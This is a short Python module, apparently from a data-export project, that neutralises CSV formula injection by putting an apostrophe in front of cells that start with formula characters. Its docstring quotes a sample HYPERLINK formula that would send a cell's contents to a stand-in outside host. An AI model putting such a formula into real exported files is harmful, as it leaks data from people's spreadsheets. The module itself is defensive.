"""CSV that spreadsheets open as data: every CSV the project writes for people goes through here.

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some
spreadsheets skip before reading the rest as a formula) is run as a formula when the file is
opened: a product name ``=HYPERLINK("http://e.invalid/?"&A1, "x")`` imported as master data would
ship data to a foreign host from the office's spreadsheet. :func:`neutralise` prefixes such text
with an apostrophe, the convention spreadsheets read as "this is text" (OWASP, CSV injection).
Numbers are left alone: ``-3`` stored as a number is a number, not a formula.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Sequence
from typing import TYPE_CHECKING, TextIO

if TYPE_CHECKING:
    import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: object) -> object:
    """``value``, with an apostrophe in front when it is text a spreadsheet would evaluate."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def write_rows(handle: TextIO, header: Sequence[str], rows: Iterable[Sequence[object]]) -> None:
    """Write ``header`` and ``rows`` to ``handle`` as CSV, every cell neutralised."""
    writer = csv.writer(handle)
    writer.writerow([neutralise(name) for name in header])
    writer.writerows([neutralise(cell) for cell in row] for row in rows)


def frame_csv(frame: pd.DataFrame) -> str:
    """``frame`` (without its index) as CSV text, every cell and column name neutralised."""
    safe = frame.map(neutralise)
    safe.columns = [neutralise(str(name)) for name in frame.columns]
    return safe.to_csv(index=False)
